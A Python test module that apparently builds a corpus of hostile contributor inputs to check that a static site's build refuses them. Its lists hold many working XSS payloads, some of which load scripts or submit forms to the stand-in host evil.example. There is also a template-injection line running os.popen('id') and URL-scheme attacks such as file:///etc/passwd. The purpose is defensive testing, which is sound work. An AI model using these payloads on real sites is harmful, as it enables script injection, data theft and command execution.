"""A corpus of attacks: what a hostile contributor would write, in every place where he can write it.

An attack is a scrap of markup or an address, put into one place of a site's content. All of them together are one site: those
that the build refuses are taken out by the lines of its problems, until what is left builds.
`X` in a scrap is the attack's own name, in letters only, since digits in a text are a problem of their own.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

EVIL = "evil.example"
RUN = "alert('X')"

# Markup that runs a script, asks another host, opens a frame or sends a form, and what breaks out of the places it is put in.
MARKUP = tuple(
    scrap.replace("RUN", RUN).replace("EVIL", f"//{EVIL}/X")
    for scrap in """\
<script>RUN</script>
<SCRIPT>RUN</SCRIPT>
<script/x>RUN</script>
<script src=EVIL></script>
<script type=module>import 'EVIL'</script>
<script>RUN
<scr<script>ipt>RUN</scr</script>ipt>
<<script>RUN//<</script>
<script\f>RUN</script>
</script><script>RUN</script>
</title><script>RUN</script>
</textarea><script>RUN</script>
</style><script>RUN</script>
</noscript><script>RUN</script>
</main></body></html><script>RUN</script>
--><script>RUN</script>
]]><script>RUN</script>
<!--><script>RUN</script>-->
<![CDATA[<script>RUN</script>]]>
<?xml-stylesheet href="EVIL"?><script>RUN</script>
"><script>RUN</script>
'><script>RUN</script>
"><img src=EVIL onerror=RUN>
'><img src=EVIL onerror=RUN>
" onmouseover="RUN" autofocus onfocus="RUN" x="
' onmouseover='RUN' autofocus onfocus='RUN' x='
` onmouseover=RUN autofocus onfocus=RUN x=`
\\"><script>RUN</script>
\\u003cscript\\u003eRUN\\u003c/script\\u003e
&lt;script&gt;RUN&lt;/script&gt;
&#x3c;script&#x3e;RUN&#x3c;/script&#x3e;
&amp;lt;script&amp;gt;RUN&amp;lt;/script&amp;gt;
%3Cscript%3ERUN%3C/script%3E
+ADw-script+AD4-RUN+ADw-/script+AD4-
＜script＞RUN＜/script＞
<img src=EVIL>
<img src=x onerror=RUN>
<img/src=x/onerror=RUN>
<img src=x onerror="RUN"
<img srcset="EVIL" sizes=1px>
<image src=x onerror=RUN>
<picture><source srcset=EVIL><img src=x></picture>
<svg onload=RUN>
<svg><script>RUN</script></svg>
<svg><script xlink:href="EVIL"/></svg>
<svg><a xlink:href="javascript:RUN"><text y=9>x</text></a></svg>
<svg><animate onbegin=RUN attributeName=x dur=1s>
<svg><set onbegin=RUN attributeName=x>
<svg><use href="EVIL#x"/></svg>
<svg><image href="EVIL"/></svg>
<svg><foreignObject><iframe src=EVIL></iframe></foreignObject></svg>
<svg><style><img title="</style><img src=x onerror=RUN>"></style></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">
<math><a xlink:href="javascript:RUN">x</a></math>
<noscript><p title="</noscript><img src=x onerror=RUN>">
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=RUN src=x>">
<iframe src=EVIL></iframe>
<iframe src="javascript:RUN"></iframe>
<iframe srcdoc="<script>parent.RUN</script>"></iframe>
<frameset onload=RUN><frame src=EVIL></frameset>
<object data=EVIL></object>
<object data="data:text/html,<script>RUN</script>"></object>
<embed src=EVIL>
<applet code=EVIL></applet>
<portal src=EVIL></portal>
<form action=EVIL><input name=x><button>x</button></form>
<form id=f action=EVIL></form><button form=f>x</button>
<button formaction="javascript:RUN">x</button>
<input autofocus onfocus=RUN>
<input type=image src=EVIL onerror=RUN>
<select autofocus onfocus=RUN><option>x</select>
<textarea autofocus onfocus=RUN>x</textarea>
<details open ontoggle=RUN><summary>x</summary></details>
<video poster=EVIL><source onerror=RUN src=x></video>
<video src=x onerror=RUN></video>
<audio src=EVIL autoplay onloadstart=RUN></audio>
<track src=EVIL>
<body onload=RUN background=EVIL>
<marquee onstart=RUN>x</marquee>
<dialog open onclose=RUN><form method=dialog><button autofocus>x</button></form></dialog>
<div style="background:url(EVIL)">x</div>
<p onclick=RUN>x</p>
<b ONPOINTERENTER=RUN>x</b>
<b style="animation-name:x" onanimationstart=RUN>x</b>
<style>@import 'EVIL';</style>
<style>body{background:url(EVIL)}</style>
<link rel=stylesheet href=EVIL>
<link rel=prefetch href=EVIL>
<link rel=dns-prefetch href=EVIL>
<meta http-equiv=refresh content="0;url=EVIL">
<meta http-equiv=Content-Security-Policy content="script-src *">
<base href=EVIL>
<a href="javascript:RUN">x</a>
<a href="java&#9;script:RUN">x</a>
<a href="&#1;javascript:RUN">x</a>
<a href="data:text/html,<script>RUN</script>">x</a>
<a href="https://example.org/" ping=EVIL>x</a>
<a href="https://example.org/" target=_blank onclick=RUN>x</a>
<map name=m><area href="javascript:RUN"></map>
<template shadowrootmode=open><img src=x onerror=RUN></template>
<xmp><p title="</xmp><img src=x onerror=RUN>">
<plaintext><script>RUN</script>
<title>x</title><a href="javascript:RUN">x</a>
<p id=main name=body>x</p>
<a id=defaultView href="javascript:RUN">x</a>
<img name=getElementById src=EVIL>
<isindex action=EVIL>
<bgsound src=EVIL>
<q cite="javascript:RUN">x</q>
<del cite=EVIL>x</del>
<custom-element onclick=RUN>x</custom-element>
<table background=EVIL><td>x</table>
{{ cycler.__init__.__globals__.os.popen('id').read() }}
{% import 'os' as os %}{{ os }}
{% raw %}<script>RUN</script>{% endraw %}
{# comment #}<script>RUN</script>
{one.__class__}<script>RUN</script>
${RUN}
#{RUN}
<%= RUN %>""".splitlines()
)  # fmt: skip

ADDRESSES = tuple(
    address.replace("RUN", RUN)
    for address in (
        "javascript:RUN",
        "JaVaScRiPt:RUN",
        "javascript&colon;RUN",
        "java&Tab;script:RUN",
        "java\\script:RUN",
        "javascript://example.org/%0aRUN",
        "%6aavascript:RUN",
        "&#106;avascript:RUN",
        "data:text/html,<b>x</b>",
        "data:image/svg+xml,<svg/>",
        "vbscript:RUN",
        "file:///etc/passwd",
        "blob:https://example.org/x",
        "filesystem:https://example.org/x",
        "view-source:javascript:RUN",
        "feed:javascript:RUN",
        f"//{EVIL}/X",
        f"\\\\{EVIL}\\X",
        f"/\\{EVIL}/X",
        "tel:110",
        "ftp://example.org/x",
        "chapter:javascript:RUN",
        "fact:<script>",
        "place:../../etc",
        "page:home#<script>RUN</script>",
    )
)  # fmt: skip

# Where markup stands in a text. {} is the scrap.
BLOCKS = {
    "paragraph": "{}",
    "sentence": "word {} *word {} word*",
    "heading": "## Word {}",
    "list": "- word\n- {}",
    "quotation": "> {}",
    "table": "| word | {} |\n|---|---|\n| {} | word |",
    "link": "[{}](https://example.org/)",
    "fold": "<details><summary>{}</summary>\n\n{}\n\n</details>",
    "literal": '{{"{}"}}',
    "code": "`{}`",
    "fence": "```\n{}\n```",
}
LINKS = {
    "inline": "[word]({})",
    "angle": "[word](<{}>)",
    "reference": "[word][X]\n\n[X]: {}",
    "autolink": "<{}>",
    "html": '<a href="{}">word</a>',
    "image": "![word]({})\nWord.",
}
# The texts of YAML that every kind of entry has, file by file; {} is the scrap.
ENTRIES = {
    "glossary": {"term": "word {}", "kind": "term", "meaning": "word {}"},
    "people": {"name": "{}", "pinyin": "Word {}", "role": "{}", "chapters": ["part/one"]},
    "places": {"name": "{}", "pinyin": "Word {}", "kind": "town", "other": ["word {}"], "seat": [119.5, 42.5]},
    "timeline": {"date": "2019", "event": "{}", "chapter": "part/one"},
    "captions": {"shows": "{}", "source": "book", "section": "Section", "chapter": "part/one"},
    "facts": {"label": "{}", "printed": "5人", "section": "Section", "note": "{}"},
}
LOCALIZED = {"term", "meaning", "name", "role", "event", "shows", "label", "note"}
_LETTERS = "abcdefghijklmnopqrstuvwxyz"


@dataclass
class Corpus:
    """The attacks that are still in the site: in each file, name → the text that holds it. `refused` are those taken out."""

    files: dict[str, dict[str, str]] = field(default_factory=dict)
    refused: dict[str, str] = field(default_factory=dict)

    @property
    def left(self) -> list[str]:
        """The attacks that the site is built with."""
        return [name for texts in self.files.values() for name in texts]

    def refuse(self, path: str, line: int, rule: str) -> bool:
        """Take out the attack that stands at a line of a file; tell whether one stands there."""
        at = self._first_line(path)
        for name, text in self.files.get(path, {}).items():
            lines = text.count("\n") + 1
            if at <= line < at + lines:
                del self.files[path][name]
                self.refused[name] = rule
                return True
            at += lines
        return False

    def write(self, root: Path) -> None:
        """Write the site's files below a folder."""
        for path, texts in self.files.items():
            file = root / path
            file.parent.mkdir(parents=True, exist_ok=True)
            facts = [f"{{sheet.{name}:plain}}\n\n" for name in self.files["content/facts/sheet.yaml"]]
            tail = "".join(facts) if path.endswith("/one/en.md") else ""
            file.write_text(_HEADS.get(path, _HEAD) + "".join(f"{text}\n" for text in texts.values()) + tail, "utf-8")

    def _first_line(self, path: str) -> int:
        return _HEADS.get(path, _HEAD).count("\n") + 1


_HEAD = "---\ntitle: Chapter\n---\n"
_HEADS = {f"content/{name}.yaml": "" for name in ENTRIES} | {
    "content/facts/sheet.yaml": "title: {en: A sheet}\nsource: book\ntheme: results\nfacts:\n"
}


def make_corpus() -> Corpus:
    """Return every attack, in a site in one language: a file of Markdown for each kind of block, an entry of YAML for each scrap."""
    names = _name_all()
    files: dict[str, dict[str, str]] = {}
    for kinds, scraps in ((BLOCKS, MARKUP), (LINKS, ADDRESSES)):
        for kind, block in kinds.items():
            # Together, some would hide others, so that each stands in a section of its own.
            texts = files[f"content/chapters/part/{kind}/en.md"] = {}
            for scrap in scraps:
                name = next(names)
                texts[name] = block.replace("{}", scrap).replace("{{", "{").replace("}}", "}").replace("X", name) + "\n"
    for file, fields in ENTRIES.items():
        path = "content/facts/sheet.yaml" if file == "facts" else f"content/{file}.yaml"
        texts = files[path] = {}
        for scrap in MARKUP:
            name = next(names)
            text = scrap.replace("X", name)
            entry = {key: _put(key, value, text) for key, value in fields.items()}
            texts[name] = f"{'  ' if file == 'facts' else ''}{name}: {json.dumps(entry, ensure_ascii=False)}"
    files["content/chapters/part/one/en.md"] = {"one": ""}
    return Corpus(files)


def _put(key: str, value: object, text: str) -> object:
    if isinstance(value, list):
        return [_put("", one, text) for one in value]
    filled = value.replace("{}", text) if isinstance(value, str) else value
    return {"en": filled} if key in LOCALIZED else filled


def _name_all() -> Iterator[str]:
    """Yield names in letters, none of them a word that a text may hold."""
    for first in _LETTERS:
        for second in _LETTERS:
            for third in "bcdfgh":
                yield f"z{first}{second}{third}q"
